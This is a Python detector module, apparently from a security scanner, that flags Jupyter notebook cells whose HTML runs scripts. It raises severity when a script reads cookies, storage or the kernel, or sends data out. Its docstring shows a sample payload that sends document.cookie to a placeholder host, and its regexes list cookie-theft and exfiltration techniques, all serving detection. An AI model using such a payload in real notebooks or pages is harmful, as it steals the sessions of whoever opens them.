"""A notebook shows markup that runs scripts in the browser of whoever opens it.

Saved outputs and text cells may hold HTML. Charting libraries put scripts there, so a
script alone is only noted; one that reads cookies or storage, starts cells through the
notebook's kernel, or sends what it sees elsewhere fails.

Before: an output with ``<script>fetch("https://host/?c=" + document.cookie)</script>``.
After: the notebook with its outputs cleared.

Sources: CWE-79; CVE-2021-32797, CVE-2021-32798 (scripts in notebook outputs).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from modelkeep.core import Finding, Rule, Severity
from modelkeep.formats.notebook import Notebook
from modelkeep.scan.interface import Context, Detector

RULE: Final = Rule(
    id="NTB002",
    name="notebook-active-markup",
    summary="Opening the notebook would run a script in the browser.",
    remedy="Clear all outputs before you open the notebook: jupyter nbconvert --clear-output.",
    topic="artifact.malicious_code",
    tags=("CWE-79",),
)
_ACTIVE: Final = re.compile(
    r"<script\b|\son(?:error|load|click|mouseover|focus)\s*=|javascript:|<iframe\b|<object\b",
    re.IGNORECASE,
)
_STEALS: Final = re.compile(
    r"document\.cookie|localStorage|sessionStorage|kernel\.execute|IPython\.notebook\.kernel"
    r"|navigator\.sendBeacon|(?:fetch|XMLHttpRequest|new Image)\b[\s\S]{0,200}https?://"
    r"|window\.location\s*=|\beval\s*\(\s*atob|<form[^>]+action\s*=\s*[\"']?http"
    r"|api/(?:kernels|contents|terminals)|<script[^>]+src\s*=\s*[\"']?http:",
)
_BUNDLE: Final = 50_000
_HANDLER: Final = re.compile(
    r"<(?:img|svg|body|iframe)\b[^>]*\son(?:error|load)\s*=", re.IGNORECASE
)


def run(context: Context) -> Iterator[Finding]:
    """Yield one finding per cell whose markup is active."""
    if not isinstance(context.document, Notebook):
        return
    seen: set[int] = set()
    for cell, text in context.document.markup:
        if cell in seen or not _ACTIVE.search(text):
            continue
        seen.add(cell)
        steals = _theft(text)
        yield context.finding(
            RULE,
            Severity.HIGH if steals else Severity.LOW,
            f"cell {cell} holds markup that runs scripts"
            + (f": {steals[0][:60]!r}" if steals else ""),
            evidence={"cell": str(cell)},
        )


def _theft(text: str) -> re.Match[str] | None:
    """What a script of its own reaches for; bundled libraries reach for everything."""
    scripts = re.split(r"</script", text, flags=re.IGNORECASE)
    found = (_STEALS.search(script) for script in scripts if len(script) < _BUNDLE)
    return next((match for match in found if match), None) or _HANDLER.search(text[:_BUNDLE])


DETECTOR: Final = Detector(RULE, frozenset({"notebook"}), run)
